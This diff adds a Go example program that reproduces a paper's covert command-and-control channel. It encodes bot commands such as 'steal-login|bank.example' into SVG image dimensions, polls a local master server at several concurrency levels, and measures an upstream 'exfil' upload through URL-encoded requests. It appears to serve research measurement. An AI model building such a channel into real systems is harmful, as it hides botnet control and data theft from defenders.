@@ -1,0 +1,72 @@
+// Covert channel: the §VI-C image-dimension C&C over a real HTTP socket.
+//
+// The master encodes a command into SVG image dimensions (4 bytes per
+// image, clamped at 65,535 per axis); the bot fetches the images — with
+// and without concurrency — and decodes the command; exfiltration flows
+// back through URL-encoded GET requests. The run reports throughput and
+// shows why the paper's 100 KB/s figure needs simultaneous requests.
+//
+//	go run ./examples/covert-channel
+package main
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"log"
+	"time"
+
+	"masterparasite/internal/cnc"
+)
+
+func main() {
+	if err := run(); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func run() error {
+	master := cnc.NewMasterServer()
+	base, shutdown, err := master.Serve()
+	if err != nil {
+		return err
+	}
+	defer func() { _ = shutdown() }()
+	fmt.Printf("master on %s\n\n", base)
+
+	// Show the encoding itself.
+	cmd := []byte("steal-login|bank.example")
+	dims := cnc.EncodeDims(cmd)
+	fmt.Printf("command %q -> %d SVG images (4 bytes each):\n", cmd, len(dims))
+	for i, d := range dims[:3] {
+		fmt.Printf("  img %d: %4d x %-5d  %s\n", i, d.W, d.H, cnc.RenderSVG(d))
+	}
+	fmt.Println("  ...")
+
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+
+	payload := bytes.Repeat([]byte("X"), 128*1024)
+	for _, conc := range []int{1, 4, 16} {
+		bot := &cnc.Bot{BaseURL: base, ID: fmt.Sprintf("bot-%d", conc), Concurrency: conc}
+		master.QueueCommand(bot.ID, payload)
+		start := time.Now()
+		got, _, ok, err := bot.Poll(ctx)
+		if err != nil || !ok || !bytes.Equal(got, payload) {
+			return fmt.Errorf("poll conc=%d failed: %v", conc, err)
+		}
+		rate := float64(len(payload)) / time.Since(start).Seconds() / 1024
+		fmt.Printf("downstream %3d concurrent fetches: %8.1f KB/s\n", conc, rate)
+	}
+
+	bot := &cnc.Bot{BaseURL: base, ID: "bot-up", Concurrency: 16}
+	start := time.Now()
+	if err := bot.Upload(ctx, "exfil", payload); err != nil {
+		return err
+	}
+	rate := float64(len(payload)) / time.Since(start).Seconds() / 1024
+	fmt.Printf("upstream (URL-encoded):            %8.1f KB/s\n", rate)
+	fmt.Println("\npaper: ≈100 KB/s downstream with simultaneous image requests;")
+	fmt.Println("upstream has no comparable bandwidth limitation (§VI-C)")
+	return nil
+}
